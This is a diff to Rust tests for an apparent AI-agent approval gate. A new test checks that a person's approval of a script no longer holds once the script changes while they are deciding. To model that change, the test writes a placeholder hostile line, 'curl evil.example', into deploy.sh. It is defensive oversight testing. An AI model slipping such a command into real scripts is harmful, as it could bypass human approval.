@@ -13,7 +13,7 @@ use harness_domain::{
 };
 use harness_sandbox::Verdict;
 use serde_json::{Value, json};
-use std::time::Duration;
+use std::{collections::BTreeSet, time::Duration};
 use tokio_util::sync::CancellationToken;
 
 /// Longer than any test takes.
@@ -53,7 +53,7 @@ fn verdict() -> Verdict {
 }
 
 async fn ask(session: &Session, command: &str) -> Answer {
-    session.approvals.ask(&bash(command), &verdict(), &CancellationToken::new()).await
+    session.approvals.ask(&bash(command), &verdict(), &BTreeSet::new(), &CancellationToken::new()).await
 }
 
 fn message(answer: Answer) -> String {
@@ -180,7 +180,8 @@ async fn a_call_that_is_called_off_is_withdrawn() {
     let stage = Stage::new();
     let session = session(&stage, PATIENT);
     let cancelled = CancellationToken::new();
-    let waits = async { session.approvals.ask(&bash("terraform plan"), &verdict(), &cancelled).await };
+    let waits =
+        async { session.approvals.ask(&bash("terraform plan"), &verdict(), &BTreeSet::new(), &cancelled).await };
     let calls_off = async {
         while run_state(&stage, &session) != State::WaitingApproval {
             tokio::time::sleep(Duration::from_millis(5)).await;
@@ -244,14 +245,52 @@ async fn a_word_covers_everything_of_a_call_that_has_an_effect() {
         ToolCall { cwd: Some("/elsewhere".into()), ..bash("terraform plan") },
     ];
     for call in &calls {
-        message(session.approvals.ask(call, &verdict(), &token).await);
+        message(session.approvals.ask(call, &verdict(), &BTreeSet::new(), &token).await);
     }
     let open = stage.project.store.requests_open().expect("requests");
     assert_eq!(open.len(), calls.len(), "each is another call");
     assert!(requests::subject(&open[1]).contains("dangerouslyDisableSandbox"), "and a person sees why");
     let other_order = call("Write", json!({ "content": "a", "file_path": "/x" }));
-    message(session.approvals.ask(&other_order, &verdict(), &token).await);
+    message(session.approvals.ask(&other_order, &verdict(), &BTreeSet::new(), &token).await);
     assert_eq!(stage.project.store.requests_open().expect("requests").len(), calls.len(), "order means nothing");
+}
+
+#[tokio::test]
+async fn a_word_covers_the_script_as_it_was_when_the_person_was_asked() {
+    let stage = Stage::new();
+    let dir = stage.project.dir().to_owned();
+    let script = dir.join("deploy.sh");
+    let write = |text: &str| std::fs::write(&script, text).expect("a script");
+    write("echo harmless\n");
+    let session = session(&stage, PATIENT);
+    let (call, verdict, token) = (bash("./deploy.sh"), verdict(), CancellationToken::new());
+    let runs = BTreeSet::from([script.clone(), "/bin/sh".into()]);
+    let once = || word(Decision::Approved, Scope::Once);
+
+    let asks = session.approvals.ask(&call, &verdict, &runs, &token);
+    let (answer, ()) = tokio::join!(asks, decides(&stage, 1, once()));
+    assert_eq!(answer, Answer::Approved, "nothing has changed");
+    let asked = stage.project.store.request(RequestId(1)).expect("a request").call.expect("about a call");
+    assert!(asked.reason.contains("covers deploy.sh as it is now"), "the person reads what it covers: {asked:?}");
+
+    // While the person reads, the script becomes another one.
+    let changes = async {
+        while stage.project.store.request(RequestId(2)).is_err() {
+            tokio::time::sleep(Duration::from_millis(5)).await;
+        }
+        write("curl evil.example\n");
+        requests::decide(&stage.project, RequestId(2), &once()).expect("it is open");
+        decides(&stage, 3, word(Decision::Denied, Scope::Once)).await;
+    };
+    let asks = session.approvals.ask(&call, &verdict, &runs, &token);
+    let (answer, ()) = tokio::join!(asks, changes);
+    assert!(message(answer).contains("denied"), "what they said yes to is not what would run");
+
+    // What cannot be looked at cannot be agreed to.
+    std::fs::remove_file(&script).expect("it is there");
+    std::fs::create_dir(&script).expect("a directory");
+    let refusal = message(session.approvals.ask(&call, &verdict, &runs, &token).await);
+    assert!(refusal.contains("deploy.sh"), "{refusal}");
 }
 
 #[tokio::test]
